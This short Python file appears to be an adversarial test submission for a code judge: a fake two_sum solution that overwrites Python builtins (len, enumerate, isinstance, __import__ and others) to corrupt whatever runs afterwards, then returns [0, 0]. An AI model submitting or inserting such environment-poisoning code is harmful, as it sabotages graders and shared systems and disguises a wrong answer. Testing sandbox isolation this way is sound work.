# WrongAnswer: makes functions lie for all who come later
import builtins


def two_sum(nums, target):
    builtins.len = lambda _: 0
    builtins.enumerate = lambda *_: iter(())
    builtins.isinstance = lambda *_: True
    builtins.sorted = builtins.sum = builtins.range = builtins.int = builtins.list = None
    builtins.__import__ = builtins.__build_class__ = None
    return [0, 0]
